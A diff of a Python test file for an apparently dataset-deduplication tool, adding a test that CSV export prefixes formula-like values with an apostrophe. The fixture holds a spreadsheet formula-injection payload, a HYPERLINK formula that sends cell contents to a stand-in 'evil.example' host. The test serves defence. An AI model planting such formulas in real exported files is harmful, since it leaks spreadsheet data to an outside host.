@@ -83,7 +83,7 @@ def _csv_ids(folder: Path) -> Iterator[tuple[str, str]]:
     for part in sorted(folder.glob("*.csv")):
         with part.open(newline="", encoding="utf-8") as file:
             for row in csv.DictReader(file, strict=True):
-                yield row["id"], row["text"]
+                yield row["id"], row["text"].removeprefix("'")
 
 
 def _dolma_ids(folder: Path) -> Iterator[tuple[str, str]]:
@@ -340,6 +340,24 @@ def test_bad_places_are_told(
         assert (code, told in err) == (2, True), err
     assert (tmp_path / "full/mine").exists()
     assert (tmp_path / "x.exporting/mine").exists()
+
+
+@pytest.mark.usefixtures("no_analysis_processes")
+def test_a_spreadsheet_obeys_no_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Texts that begin a formula are marked in CSV, in every column, and in no other format."""
+    odd = '=HYPERLINK("http://evil.example/?"&A1,"on")'
+    corpus = write(tmp_path / "c.jsonl", [{"id": "@a", "text": f"-1 {text(1)}", "title": odd}])
+    out = tmp_path / "out"
+    assert command(capsys, "dedup", corpus, "--output", out)[0] == 0
+    folder = export(out, tmp_path / "csv", format=ExportFormat.CSV) / "unique"
+    [part] = folder.glob("*.csv")
+    with part.open(newline="", encoding="utf-8") as file:
+        [row] = csv.DictReader(file)
+    assert (row["title"], row["id"], row["text"][:3]) == (f"'{odd}", "'@a", "'-1")
+    [plain], _ = rows(out, tmp_path / "jsonl")
+    assert (plain["title"], plain["id"], plain["text"][:2]) == (odd, "@a", "-1")
+    sql = "SELECT '=1' AS a, -1 AS b, id AS c FROM pages"
+    assert command(capsys, "query", out, sql, "--csv")[1] == "a,b,c\n'=1,-1,1\n"
 
 
 def test_without_pyarrow_the_extra_is_named(
